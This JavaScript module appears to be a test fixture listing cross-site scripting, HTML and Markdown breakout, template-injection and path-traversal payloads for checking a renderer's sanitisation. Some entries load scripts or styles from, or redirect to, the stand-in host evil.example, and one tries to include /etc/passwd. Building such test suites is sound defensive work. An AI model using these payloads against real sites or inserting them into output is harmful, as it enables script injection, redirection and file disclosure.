// What somebody might paste to make a page do more than show it, in groups that each try one way.
//
// What runs calls `alert(1)` or sets `window.__hit`; what leads away asks for something at evil.example. A payload that Markdown
// rightly makes something of has the words that are then read, and the elements that may be there beside the harmless ones.

const { raw } = String;
const reads = (text, shows, ...makes) => ({ text, shows, makes });

const groups = {
  'script elements': [
    '<script>alert(1)</script>',
    '<ScRiPt >alert(1)</sCrIpT >',
    '<script/src=//evil.example/x.js></script>',
    '<script\nasync>alert(1)</script\nasync>',
    '<script>window.__hit=1',
    '＜script＞alert(1)＜/script＞',
    reads('&lt;script&gt;alert(1)&lt;/script&gt;', '<script>alert(1)</script>'),
    reads('&#60;script&#x3E;alert(1)&#60;/script&#x3E;', '<script>alert(1)</script>'),
    raw`\u003cscript\u003ealert(1)\u003c/script\u003e`,
  ],
  'event handlers': [
    '<img src=x onerror=alert(1)>',
    '<img/src=x/onerror=window.__hit=1//',
    '<details open ontoggle=alert(1)>',
    '<a href=# onclick=alert(1)>x</a>',
  ],
  'addresses that run': [
    'javascript:alert(1)',
    'java\tscript:alert(1)',
    'java\nscript:alert(1)',
    '\x01javascript:alert(1)',
    reads('javascript&colon;alert(1)', 'javascript:alert(1)'),
    reads('&#x6A;ava&Tab;script:alert(1)', 'java\tscript:alert(1)'),
    'javascript%3Aalert(1)',
    'vbscript:msgbox(1)',
    'data:text/html,<script>alert(1)</script>',
  ],
  'addresses that lead away': [
    '//evil.example/x',
    reads(raw`\\evil.example\x`, raw`\evil.example\x`),
    raw`/\evil.example/x`,
    'https:evil.example/x',
    'https://example.org@evil.example/x',
  ],
  'links and pictures of Markdown': [
    '[x](javascript:alert(1))',
    '[x](JAVA&#115;CRIPT:alert(1))',
    '<javascript:alert(1)>',
    '![x](x"onerror="alert(1))',
    reads('[x][h]\n\n[h]: javascript:alert(1)', '', '<p>'),
    reads('[x](https://example.org/"onmouseover="alert(1))', 'x', '<a href>'),
    reads('[x](https://example.org \'"onmouseover="alert(1)\')', 'x', '<a href>', '<a href title>'),
    reads('<https://example.org/"onmouseover=alert(1)>', 'https://example.org/"onmouseover=alert(1)', '<a href>', '<span class=nb>'),
    '[x](claim:sky"onmouseover="alert(1))',
  ],
  'out of an attribute': [
    '"><img src=x onerror=alert(1)>',
    '" autofocus onfocus="alert(1)',
    '\' onmouseover=\'alert(1)',
    reads('` onmouseover=`alert(1)', 'onmouseover=alert(1)', '<code>'),
    reads('&quot; onmouseover=&quot;alert(1)', '" onmouseover="alert(1)'),
  ],
  'out of an element': [
    '</title><script>alert(1)</script>',
    '</style><script>alert(1)</script>',
    '</script><script>alert(1)</script>',
    '</textarea></noscript></template><img src=x onerror=alert(1)>',
    '</p></div></main></body></html>',
    ']]><img src=x onerror=alert(1)>',
    '<![CDATA[<script>alert(1)</script>',
  ],
  'comments, and what never ends': [
    '<!--',
    '--!><img src=x onerror=alert(1)>',
    '<img src="x',
    '<plaintext>',
    '"\'`<',
  ],
  'SVG and MathML': [
    '<svg><a xlink:href="javascript:alert(1)"><text y="9">x</text></a></svg>',
    '</text></desc></svg><img src=x onerror=alert(1)>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  ],
  'elements that fetch or lead': [
    '<meta http-equiv=refresh content="0;url=//evil.example/">',
    '<base href=//evil.example/>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<form action=javascript:alert(1)><button>x</button></form>',
    '<link rel=import href=//evil.example/x>',
  ],
  'style sheets': [
    '<style>@import url(//evil.example/x.css);</style>',
    'x;background:url(//evil.example/x)',
    '} body { background: url(//evil.example/x) } {',
    'width:expression(alert(1))',
  ],
  'syntax of templates, messages and citations': [
    '{{ 7*7 }}',
    '{% include "/etc/passwd" %}',
    '{ $x }{ NUMBER(1) }{ -brand }',
    '#eval("alert(1)") $x$ #link("javascript:alert(1)")[x]',
    '}, url = {javascript:alert(1)}, x = {',
    '","url":"javascript:alert(1)","x":"',
    // The signs that mark a title for us.
    '\ue000<script>alert(1)</script>\ue001',
    'title: x\n---\n<script>alert(1)</script>',
  ],
  'blocks, ruby, footnotes and attributes': [
    '# h {onclick=alert(1)}',
    'x {#id .class onclick=alert(1)}',
    '{漢字<script>|"onclick=alert(1)}',
    '[^"><script>alert(1)</script>]',
    '| <script>alert(1)</script> | x |\n| --- | --- |\n| " onclick=alert(1) | x |',
    reads('```" onclick="alert(1)\nx\n```', 'x', '<p>', '<pre>', '<code class>'),
    reads('`<script>alert(1)</script>`', '<script>alert(1)</script>', '<code>'),
    reads('- x\n  1. y\n\n         z', 'x', '<ul>', '<li>', '<ol>', '<p>', '<pre>', '<code>'),
  ],
  'characters that are not seen': [
    '\u202ealert(1)\u2066<script>\u2069',
    'java\u200bscript\u2060:alert\ufeff(1)',
    '\0<script\0>alert(1)</scr\0ipt>',
    '\x1b[31malert(1)\x1b]8;;https://evil.example\x07',
    'a\u0085b\u2028c\u2029d\x7fe',
    'a\r\n<script>alert(1)</script>\fb\vc',
    `a${'\u0301\u0489'.repeat(200)}`,
  ],
  'what is very long': ['W'.repeat(2000), `"${'漢'.repeat(2000)}>`, '['.repeat(500), '{a|'.repeat(500)],
  'paths': [
    '../../../../../x',
    reads(raw`..\..\x`, raw`....\x`),
    '..%2f..%2fx',
    raw`C:\x`,
    'aux:x',
    'claims.html#"><script>alert(1)</script>',
    '?x=<script>alert(1)</script>',
  ],
};

export const payloads = Object.entries(groups).flatMap(([group, all]) => all.map((one) => ({ group, ...(one.text ? one : { text: one }) })));
